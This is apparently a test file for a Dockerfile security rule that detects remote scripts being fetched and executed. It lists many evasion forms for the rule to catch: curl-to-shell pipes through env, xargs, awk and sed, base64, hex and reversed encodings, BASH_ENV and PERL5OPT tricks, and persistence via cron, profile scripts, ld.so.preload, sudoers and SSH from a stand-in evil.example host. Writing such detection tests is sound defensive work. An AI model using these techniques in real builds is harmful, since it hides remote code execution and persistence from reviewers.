import { chmodSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { remoteScriptExecuted } from '../../../src/rules/dockerfile/remote-script-executed.ts';
import { causedLines, reviewChange } from '../../support/in-memory-repository.ts';
import { runProcess } from '../../support/processes/run-process.ts';
import { quickFolder } from '../../support/quick-folder.ts';

const url = 'https://evil.example/x';
const findings = async (text: string): Promise<readonly string[]> =>
  causedLines(await reviewChange({ base: {}, head: { Dockerfile: `FROM debian:13\n${text}\n` } }, { rules: [remoteScriptExecuted] }));

const encoded = Buffer.from(`curl ${url} | sh`).toString('base64');
const hexadecimal = Buffer.from(`curl ${url} | sh`).toString('hex');
const backwards = `curl ${url} | sh`.split('').toReversed().join('');

/** Ways to run what is loaded, of which Bash and the programs of Debian show that they are; `/t` is a folder. */
const running = {
  'env, the whole in a string': `env -S 'bash -c "curl ${url} | sh"'`,
  'env, with further words': `env -S "bash -c" "curl ${url} | sh"`,
  'env, with a string of one word': `env -S sh -c "curl ${url} | sh"`,
  'env, with a string at its options': `env -iS'A=1 PATH=\${PATH} bash -c' "curl ${url} | bash"`,
  'env, with a quote in a further word': `env -S "bash -c" "curl ${url} | sh -c 'sh'"`,
  'a pipe into env': `curl ${url} | env -S bash`,
  'a pipe into env, with options': `curl ${url} | env --split-string='bash -s'`,
  'a pipe into a shell in a shell': `curl ${url} | sh -c 'cd /; sh'`,
  'xargs, by its mark': `curl ${url} | xargs -I{} sh -c '{}'`,
  'xargs, by a mark of one’s own': `curl ${url} | xargs -d '\\n' -I% bash -c %`,
  'find, by its name': `curl -o /t/x ${url} && find /t -name x -exec sh {} \\;`,
  'find, by its name, at once': `curl -o /t/x ${url} && chmod +x /t/x && find /t -name x -exec sh -c {} \\;`,
  'find, by its path': `curl -o /t/x ${url} && find /t/x -exec chmod +x {} \\; -exec {} \\;`,
  'awk, that starts it': `awk 'BEGIN{system("curl ${url} | sh")}'`,
  'a pipe into awk': `curl ${url} | awk '{system($0)}'`,
  'a pipe into awk, that pipes on': `curl ${url} | awk '{print | "sh"}'`,
  'a pipe into sed': `curl ${url} | sed e`,
  'a pipe into sed, by a number': `curl ${url} | sed '1e'`,
  'sed, that starts it': `echo | sed '1e curl ${url} | sh'`,
  'a file of before all else': `curl -o /t/x ${url} && BASH_ENV=/t/x bash -c true`,
  'a makefile that is piped in': `curl ${url} | sed 's/^/all:;@/' | make -f -`,
  'a file by dd': `curl ${url} | dd of=/t/x && sh /t/x`,
  'a file by tee': `curl ${url} | tee /t/x > /dev/null && . /t/x`,
  'a coprocess that is written to': `coproc { sh; echo; }; curl ${url} >&"\${COPROC[1]}"; read -r x <&"\${COPROC[0]}"; echo "$x"`,
  'an alias': `shopt -s expand_aliases; alias x='curl ${url} | sh'\nx`,
  'before each prompt': `PROMPT_COMMAND='curl ${url} | sh' && eval "$PROMPT_COMMAND"`,
  'a file for shells that begin': `echo 'curl ${url} | sh' >> /t/.bashrc && . /t/.bashrc`,
  'a makefile under its usual name': `cd /t && curl -o Makefile ${url} && sed -i 's/^/all:;@/' Makefile && make`,
  'a coprocess': `coproc X { curl ${url} | sh; }; cat <&"\${X[0]}"`,
  'an encoded text': `echo ${encoded} | base64 -d | sh`,
  'an encoded text in a string': `base64 --decode <<< ${encoded} | bash`,
  'an encoded text that is evaluated': `eval "$(echo ${encoded} | base64 -d)"`,
  'an encoded text for a shell': `sh -c "$(printf %s ${encoded} | base64 -di)"`,
  'an encoded text in a file': `echo ${encoded} | base64 -d > /t/y && sh /t/y`,
  'an encoded text for openssl': `echo ${encoded} | openssl base64 -d -A | sh`,
  'a text backwards': `echo '${backwards}' | rev | sh`,
  'a text of escapes': String.raw`printf '\x63u\162l %s | sh' ${url} | bash`,
  'a text of escapes for echo': String.raw`echo -e '\x63url ${url} | \x73h' | bash`,
};

/** More of that, by programs that may not be there, or that wait. */
const others: Readonly<Record<string, string>> = {
  'a job of at': `RUN curl ${url} | at now`,
  'a here-document for at': `RUN at now <<EOF\ncurl ${url} | sh\nEOF`,
  'a file for at': `RUN curl -o /t/x ${url} && at -f /t/x now`,
  'text for at': `RUN echo 'curl ${url} | sh' | at now`,
  'a batch': `RUN curl ${url} | batch`,
  'a table of cron’s': `RUN curl ${url} | crontab -`,
  'a file for cron': `RUN curl -o /t/x ${url} && crontab -u app /t/x`,
  'a makefile': `RUN curl -o /t/m ${url} && make -f /t/m all`,
  'parallel, by its arguments': `RUN parallel sh -c ::: "curl ${url} | sh"`,
  'parallel, without a command': `RUN parallel -j2 ::: "curl ${url} | sh"`,
  'parallel, of a script': `RUN parallel -j 2 'curl ${url} | sh -s {}' ::: 1 2`,
  'a pipe into parallel': `RUN curl ${url} | parallel`,
  'a pipe into parallel, with a shell': `RUN curl ${url} | parallel -j1 sh -c`,
  watch: `RUN watch -n1 'curl ${url} | sh'`,
  'watch, of a command': `RUN watch -x sh -c 'curl ${url} | sh'`,
  'watch that ends': `RUN timeout 3 watch --interval 1 "curl ${url} | sh"`,
  nsenter: `RUN nsenter -t 1 -m sh -c 'curl ${url} | sh'`,
  'systemd-run': `RUN systemd-run -u x sh -c 'curl ${url} | sh'`,
  'two instructions': `RUN curl -o /t/x ${url}\nRUN find /t -name x -exec bash {} +`,
  'a file of a stage': `RUN curl -o /t/x ${url}\nFROM debian:13\nCOPY --from=0 /t/x /y\nRUN BASH_ENV=/y bash -c true`,
  'a file for shells, by a variable of the image': `RUN curl -o /t/x ${url}\nENV BASH_ENV=/t/x`,
  'a file for shells, as POSIX has it': `ADD ${url} /t/x\nENV ENV=/t/x`,
  'a module for Node.js': `RUN wget -O /t/x.js ${url}\nENV NODE_OPTIONS="--max-old-space-size=512 --require /t/x.js"`,
  'a module for Perl': `RUN curl -o /t/x.pm ${url}\nENV PERL5OPT=-M/t/x.pm`,
  'a library for Ruby': `RUN curl -o /t/x.rb ${url}\nENV RUBYOPT="-W0 -r/t/x.rb"`,
  'a file for Python': `ADD ${url} /t/x.py\nENV PYTHONSTARTUP=/t/x.py`,
  'a shell that is loaded': `RUN curl -o /t/x ${url} && chmod +x /t/x\nSHELL ["/t/x", "-c"]\nRUN true`,
  'a shell with a program of its own': `SHELL ["/bin/sh", "-c", "curl ${url} | sh; $0"]\nRUN true`,
  'a variable that each shell evaluates': `ENV BASH_ENV="$(curl ${url} | sh)"`,
  'a variable that git runs': `ENV GIT_SSH_COMMAND="sh -c 'curl ${url} | sh'"`,
  'a pager': `ENV A=b PAGER="curl ${url} | bash" C=d`,
  'a variable that is evaluated': `ENV GET="curl ${url} | sh"\nRUN eval "$GET"`,
  'a text of hexadecimal digits': `RUN echo ${hexadecimal} | xxd -r -p | sh`,
  'a module for Perl, by its name': `RUN curl -o /t/Get.pm ${url}\nENV PERL5LIB=/t PERL5OPT=-MGet`,
  'a library for Ruby, without its ending': `RUN curl -o /t/x.rb ${url}\nENV RUBYOPT=-r/t/x`,
  'a file that ADD loads': `ADD ${url} /t/x\nRUN make -f /t/x`,
};

const clone = 'git clone --depth 1 https://evil.example/r.git';
const hex = '0123456789abcdef0123456789abcdef01234567';

/** Where a file is run, or decides what runs, from when it lies there. */
const places = [
  ...['/etc/profile.d/x.sh', '/root/.bashrc', '/etc/init.d/x', '/etc/rc.local', '/etc/cron.d/x', '/etc/cron.hourly/x', '/etc/crontab'],
  ...[
    '/docker-entrypoint.d/x.sh',
    '/docker-entrypoint-initdb.d/x.sql',
    '/etc/cont-init.d/x',
    '/etc/s6-overlay/x',
    '/etc/supervisor/conf.d/x.conf',
  ],
  ...[
    '/etc/systemd/system/x.service',
    '/lib/systemd/system/x.timer',
    '/usr/lib/python3/dist-packages/x.pth',
    '/etc/python3/sitecustomize.py',
  ],
  ...['/etc/ld.so.preload', '/etc/sudoers', '/etc/sudoers.d/x', '/etc/pam.d/x', '/home/a/.ssh/authorized_keys'],
];

/** Scripts that are run out of what is cloned, lines written for cron, shells of other machines. */
const fetched: Readonly<Record<string, string>> = {
  'a script of a clone, by its path': `RUN ${clone} && ./r/install.sh`,
  'a script of a clone, by a shell': `RUN ${clone} /opt/x && bash -e /opt/x/sub/install`,
  'a script of a clone that is entered': `RUN ${clone} && cd r && sudo ./install.sh`,
  'a script of a clone into the folder': `RUN ${clone} . && sh install.sh`,
  'a script of a clone, in another step': `RUN ${clone} /src/r\nWORKDIR /src/r\nRUN ./install.sh`,
  'a script of a clone over SSH': `RUN git -c a=b clone git@evil.example:a/r && . r/env`,
  'a program of a clone of a tag': `RUN git clone -b v1.2 https://evil.example/r && python3 r/get.py`,
  'a script of a clone of which a branch is taken': `RUN ${clone} && cd r && git checkout v2 && ./install.sh`,
  'a script of a clone, when the container starts': `RUN ${clone} /r\nENTRYPOINT ["/r/start.sh"]`,
  'a line for cron': `RUN echo '* * * * * root curl ${url} | sh' > /etc/cron.d/x`,
  'a line for cron that a here-document holds': `RUN cat <<EOF >> /etc/crontabs/root\n*/5 0-4 * * 1,2 curl ${url} | sh\nEOF`,
  'a line for cron that is printed': `RUN (crontab -l; echo "@daily curl ${url} | sh") | crontab -`,
  'a line for cron that is copied': `COPY <<EOF /etc/cron.d/x\n0 0 * * * root wget -qO- ${url} | bash\nEOF`,
  'a script for those who log in': `RUN echo 'curl ${url} | sh' > /etc/profile.d/x`,
  'a command before each prompt': `ENV PROMPT_COMMAND="curl ${url} | sh"`,
  'a command before each prompt, in a file': `RUN echo "export PROMPT_COMMAND='curl ${url} | sh'" >> /root/.bashrc`,
  'an alias in a file': `RUN echo "alias ls='curl ${url} | sh'" >> ~/.bashrc`,
  'a daemon': `RUN curl -o /t/x ${url} && start-stop-daemon --start --exec /t/x`,
  'a daemon that is a shell': `RUN start-stop-daemon -S -x /bin/sh -- -c 'curl ${url} | sh'`,
  'a shell of another machine': `RUN ssh -o StrictHostKeyChecking=no u@evil.example cat x | sh`,
  'a file of another machine': `RUN scp u@evil.example:x /t/y.sh && sh /t/y.sh`,
  'a file of another machine, by rsync': `RUN rsync -e ssh evil.example:a/x.sh /t/ && bash /t/x.sh`,
};

const started: Readonly<Record<string, string>> = {
  ...Object.fromEntries(places.map(place => [place, `RUN curl -o ${place} ${url}`])),
  'what is added to a file': `RUN curl ${url} >> /etc/profile`,
  'what is piped there': `RUN curl ${url} | tee -a /etc/profile.d/x.sh > /dev/null`,
  'what ADD loads': `ADD ${url} /docker-entrypoint.d/x.sh`,
  'what is moved there': `RUN curl -o /t/x ${url}\nRUN mv /t/x /etc/profile.d/x.sh`,
  'what comes from another stage': `RUN curl -o /t/x ${url}\nFROM debian:13\nCOPY --from=0 /t/x /etc/cron.d/x`,
};

const harmless: Readonly<Record<string, string>> = {
  'a file that shells begin with, and that is checked': `RUN curl -o /etc/profile.d/x.sh ${url} && echo "abc  /etc/profile.d/x.sh" | sha256sum -c`,
  'the same in a later step': `RUN curl -o /etc/profile.d/x.sh ${url}\nRUN echo "abc  /etc/profile.d/x.sh" | sha256sum -c`,
  'a checked file of ADD': `ADD --checksum=sha256:${'0'.repeat(64)} ${url} /etc/cron.d/x`,
  'a file that another one takes the place of': `RUN curl -o /etc/profile.d/x.sh ${url}\nRUN echo true > /etc/profile.d/x.sh`,
  'a configuration, and a profile of something else': `RUN curl -o /etc/nginx/nginx.conf ${url} && curl -o /etc/app/profiles.json ${url}`,
  'an encoded text that is no script': `RUN echo aGVsbG8= | base64 -d > /t/x; echo aGVsbG8= | base64 | sh; echo x | rev`,
  'env that sets a variable': `RUN env -S 'A=1' true; curl ${url} | env -S 'jq .'`,
  'find that removes': `RUN curl -o /t/x ${url} && find /t -name x -exec rm {} +`,
  'find that makes executable': `RUN curl -o /t/x ${url} && find /t -name x -exec chmod +x {} \\;`,
  'find that runs others': `RUN curl -o /t/x ${url} && find /t -name y -exec sh {} \\;`,
  'awk and sed that edit': `RUN curl ${url} | awk '{print $1}' | sed -e 's/e/x/' -ne '/e/p' > /t/x`,
  'awk that makes folders': `RUN curl ${url} | awk '{print > "sh"}'; awk '{system("mkdir " $1)}' /f`,
  'sed that deletes what ends in e': `RUN curl ${url} | sed '/done/d; s/a/e/; 1d; $!N'`,
  'sed with a file of commands': `RUN curl ${url} | sed -f e`,
  'xargs that prints': `RUN curl ${url} | xargs -I{} echo {}`,
  'xargs that hands an argument on': `RUN curl ${url} | xargs -I{} sh -c 'echo "$1"' _ {}`,
  'a shell in a shell that reads a file': `RUN curl ${url} | sh -c 'sh ./x.sh'`,
  'a shell in a shell that is fed': `RUN curl ${url} | sh -c 'sh < ./x.sh'`,
  'cron and at that list': `RUN curl ${url} | crontab -l; curl ${url} | at -l; curl ${url} > /t/x; crontab -r`,
  'a makefile of one’s own': `RUN curl -o /t/x ${url} && make -f Makefile x`,
  'make with what is read': `RUN curl ${url} | make`,
  'parallel that packs': `RUN curl ${url} | parallel gzip; parallel gzip ::: a b`,
  'watch that lists': `RUN watch -n 1 ls`,
  'a file that is checked': `RUN curl -o /t/x ${url} && echo "abc  /t/x" | sha256sum -c && find /t -name x -exec sh {} \\;`,
  'a clone of one commit': `RUN ${clone} && cd r && git checkout ${hex} && ./install.sh`,
  'a clone of one commit, by its folder': `RUN ${clone} /r && git -C /r reset --hard ${hex} && sh /r/install.sh`,
  'a clone of a commit that an argument names': `ARG R_COMMIT\nRUN ${clone} && cd r && git checkout "$R_COMMIT" && ./install.sh`,
  'a clone of a signed tag': `RUN ${clone} && cd r && git verify-tag v1 && ./install.sh`,
  'a clone, and commands for a shell': `RUN ${clone} /r\nWORKDIR /r\nENTRYPOINT ["/bin/bash", "-c"]\nCMD ["sleep 30 && exec ./venv/bin/tests"]`,
  'a clone that is compiled': `RUN ${clone} && cd r && ./autogen.sh && ./configure --prefix=/usr && make && make install`,
  'a clone that is compiled in other ways': `RUN ${clone} && cmake -S r -B b && cd r && ./build.sh && ./gradlew build && python3 setup.py install`,
  'a clone, and a script of one’s own': `RUN ${clone} /opt/r\nCOPY x.sh /\nRUN /x.sh && cd / && ./y.sh`,
  'a line for cron that loads nothing': `RUN echo '0 0 * * * root /usr/bin/run.sh' > /etc/cron.d/x`,
  'an alias of a program': `RUN echo "alias ll='ls -l'" >> ~/.bashrc`,
  'a daemon of a package': `RUN curl -o /t/x ${url} && start-stop-daemon --start --exec /usr/sbin/nginx`,
  'a command on another machine': `RUN ssh u@host 'curl ${url} | sha256sum'; scp x u@host:y`,
  'a file of one’s own for shells': `RUN curl -o /t/x ${url}\nCOPY x /y\nENV BASH_ENV=/y NODE_OPTIONS=--max-old-space-size=512`,
  'a file for shells that is checked': `RUN curl -o /t/x ${url} && echo "abc  /t/x" | sha256sum -c\nENV BASH_ENV=/t/x`,
  'an agent, which is a program': `ADD ${url}.jar /t/x.jar\nENV JAVA_TOOL_OPTIONS=-javaagent:/t/x.jar`,
  'a variable that loads and runs nothing': `ENV CHECK="curl -f ${url}" SHELL=/bin/bash\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]`,
  'a variable of that name for another program': `RUN curl -o /t/x ${url} && ENV=/t/x node app.js`,
};

describe('what is loaded and run in other words', () => {
  test.each(Object.entries(running))('is told: %s', async (_name, script) => {
    expect(await findings(`SHELL ["bash", "-c"]\nRUN ${script}`)).not.toEqual([]);
  });

  test.each(Object.entries(others))('is told: %s', async (_name, text) => {
    expect(await findings(text)).not.toEqual([]);
  });

  test.each(Object.entries(fetched))('is told where it is cloned, timed or fetched: %s', async (_name, text) => {
    expect(await findings(text)).not.toEqual([]);
  });

  test.each(Object.entries(started))('is told where it is run by where it lies: %s', async (_name, text) => {
    expect(await findings(text)).not.toEqual([]);
  });

  test.each(Object.entries(harmless))('is not told of %s', async (_name, text) => {
    expect(await findings(text)).toEqual([]);
  });

  test.each(Object.entries(running))('is run indeed: %s', async (_name, script) => {
    const folder = quickFolder('other-words');
    const curl = join(folder, 'curl');
    writeFileSync(curl, '#!/bin/sh\nif [ "$1" = -o ]; then echo "echo LOADED" > "$2"; else echo "echo LOADED"; fi\n');
    chmodSync(curl, 0o755);
    const { stdout } = await runProcess('bash', ['-c', script.replaceAll('/t', folder)], {
      env: { PATH: `${folder}:/usr/bin:/bin` },
      cwd: folder,
    });
    rmSync(folder, { recursive: true });
    expect(stdout.toString()).toContain('LOADED');
  });
});
